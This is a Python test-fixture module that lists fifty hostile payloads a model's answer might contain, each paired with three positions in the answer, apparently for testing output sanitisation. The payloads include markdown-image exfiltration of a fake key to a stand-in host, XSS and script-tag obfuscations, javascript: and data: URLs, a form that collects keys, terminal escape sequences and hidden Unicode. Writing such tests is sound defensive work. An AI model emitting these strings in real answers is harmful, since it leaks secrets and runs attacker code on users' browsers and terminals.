"""What a model might write that was turned against its readers: fifty payloads, each in three places of an answer."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

ELSEWHERE = "https://evil.example/c?d=sk-test"

_SHOWN = (
    f"![chart]({ELSEWHERE})",
    f"![chart][1]\n\n[1]: {ELSEWHERE}",
    f"![]({ELSEWHERE} 'title')",
    f"[![chart]({ELSEWHERE})]({ELSEWHERE})",
    f"!\u200b[chart]({ELSEWHERE})",
    f'<img src="{ELSEWHERE}">',
    f"<img src=x onerror=fetch('{ELSEWHERE}')>",
    f"<picture><source srcset={ELSEWHERE}></picture>",
    f'<svg onload="location=\'{ELSEWHERE}\'"><image href="{ELSEWHERE}"/></svg>',
    f"<div style=\"background:url('{ELSEWHERE}')\">x</div>",
)
_LINKED = (
    f"[the source]({ELSEWHERE})",
    f"[the source][s]\n\n[s]: {ELSEWHERE}",
    f"[the source](<{ELSEWHERE}>)",
    f"[the [inner] source]({ELSEWHERE})",
    f"<{ELSEWHERE}>",
    ELSEWHERE,
    "http://2130706433/x",
    "//evil.example/x.png",
    "www.evil.example/x",
    "evil.example/x?d=1",
    "127.0.0.1:8765/v1/keys",
    "ftp://evil.example/x",
    "mailto:me@evil.example?body=sk-test",
    "[run](javascript:alert(1))",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "[x](data:image/svg+xml,%3Csvg%3E)",
    "h\u200bttps://evil.example/x",
    "https:\u2060//evil.example/x",
    "ht<b></b>tps://evil.example/x",
)
_RUN = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='https://evil.example'>here</a>",
    "<form action=https://evil.example><input name=key></form>",
    "<!-- <img src=https://evil.example> -->",
    "<style>@import 'https://evil.example/a.css';</style>",
    "</p></div><base href=https://evil.example/>",
    "<math><mi xlink:href='https://evil.example'>x</mi></math>",
)
_STEERED = (
    "\x1b[2J\x1b[1;1HAll your sources agree.",
    f"\x1b]8;;{ELSEWHERE}\x07click\x1b]8;;\x07",
    "\x1b]52;c;c2stdGVzdA==\x07",
    "\x9b31mred\x9b0m",
    "\x90q\x9cx\x08\x08\x08",
    "\u202eevil\u202c\u2066x\u2069",
    "\u200b\ufeff\u00adhidden\U000e0041",
    "a\r\nevent: answer\r\ndata: {}\r\n\r\n",
)
PAYLOADS = _SHOWN + _LINKED + _RUN + _STEERED
PLACES = ("in a cited run", "in an uncited run", "in what is missing")


def outputs() -> Iterator[tuple[str, str]]:
    """Yield every payload with the place where the model writes it."""
    yield from product(PAYLOADS, PLACES)
